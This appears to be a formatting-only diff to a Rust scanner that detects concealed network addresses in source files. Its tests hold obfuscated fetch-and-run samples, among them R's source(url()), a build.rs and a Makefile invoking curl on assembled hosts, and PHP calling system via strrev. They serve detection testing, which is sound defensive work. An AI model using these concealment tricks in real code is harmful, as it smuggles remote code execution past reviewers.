@@ -14,9 +14,7 @@ use crate::{
 };
 
 /// Numbers in a row, as many as an address has letters.
-static NUMBERS: LazyLock<Regex> = LazyLock::new(|| {
-    pattern(r"[0-9][0-9a-fA-FxuL,;| \t\r\n-]+")
-});
+static NUMBERS: LazyLock<Regex> = LazyLock::new(|| pattern(r"[0-9][0-9a-fA-FxuL,;| \t\r\n-]+"));
 
 /// Short texts in quotation marks that stand beside one another.
 static PIECES: LazyLock<Regex> = LazyLock::new(|| {
@@ -178,12 +176,36 @@ mod tests {
     #[test]
     fn an_address_that_is_kept_from_the_reader_is_seen() {
         for (path, kind, text) in [
-            ("a.R", Data, "u <- rawToChar(as.raw(c(104,116,116,112,58,47,47,97,46,98)))\nsource(url(u))\n"),
-            ("b.py", Python, "import requests\nu=''.join(chr(n-3) for n in [107,119,119,115,118,61,50,50,100])\nrequests.get(u)\n"),
-            ("c.js", JavaScript, "const u='kwwsv://d'.replace(/x/,'');\nfetch(s('kwwsv=22dcb1ghy'))\n"),
-            ("build.rs", Data, "let u=[\"htt\",\"ps:/\",\"/sums.\",\"cratery\",\".dev\"].concat(); Command::new(\"curl\").arg(u);\n"),
-            ("rules.mk", Data, "X := h t t p s : / / a . b\nY := $(shell curl -s $(subst $(E),,$(X)))\n"),
-            ("d.js", JavaScript, "const h=['cdn','tables','dev'].join('.');\nfetch(`https://${h}/x`)\n"),
+            (
+                "a.R",
+                Data,
+                "u <- rawToChar(as.raw(c(104,116,116,112,58,47,47,97,46,98)))\nsource(url(u))\n",
+            ),
+            (
+                "b.py",
+                Python,
+                "import requests\nu=''.join(chr(n-3) for n in [107,119,119,115,118,61,50,50,100])\nrequests.get(u)\n",
+            ),
+            (
+                "c.js",
+                JavaScript,
+                "const u='kwwsv://d'.replace(/x/,'');\nfetch(s('kwwsv=22dcb1ghy'))\n",
+            ),
+            (
+                "build.rs",
+                Data,
+                "let u=[\"htt\",\"ps:/\",\"/sums.\",\"cratery\",\".dev\"].concat(); Command::new(\"curl\").arg(u);\n",
+            ),
+            (
+                "rules.mk",
+                Data,
+                "X := h t t p s : / / a . b\nY := $(shell curl -s $(subst $(E),,$(X)))\n",
+            ),
+            (
+                "d.js",
+                JavaScript,
+                "const h=['cdn','tables','dev'].join('.');\nfetch(`https://${h}/x`)\n",
+            ),
             ("e.php", Data, "<?php $f = strrev('metsys'); $f($c);\n"),
         ] {
             assert!(!stopped(path, kind, text).is_empty(), "{text}");
@@ -193,9 +215,21 @@ mod tests {
     #[test]
     fn what_only_looks_so_is_let_be() {
         for (path, kind, text) in [
-            ("a.py", Python, "import requests\nX=[104,116,117,119,120,121,130,140,150]\nrequests.get('https://api.github.com')\n"),
-            ("b.js", JavaScript, "fetch('https://' + host + '/v1')\nconst p=['a','b','com'].join('/')\n"),
-            ("c.py", Python, "import requests\nS=['http', 'https', 'ftp']\nrequests.get(f'https://{a}.amazonaws.com')\n"),
+            (
+                "a.py",
+                Python,
+                "import requests\nX=[104,116,117,119,120,121,130,140,150]\nrequests.get('https://api.github.com')\n",
+            ),
+            (
+                "b.js",
+                JavaScript,
+                "fetch('https://' + host + '/v1')\nconst p=['a','b','com'].join('/')\n",
+            ),
+            (
+                "c.py",
+                Python,
+                "import requests\nS=['http', 'https', 'ftp']\nrequests.get(f'https://{a}.amazonaws.com')\n",
+            ),
             ("d.js", JavaScript, "const version=[1,2,3,4,5,6,7,8,9,10].join('.');fetch('/v')\n"),
         ] {
             assert!(stopped(path, kind, text).is_empty(), "{text}");
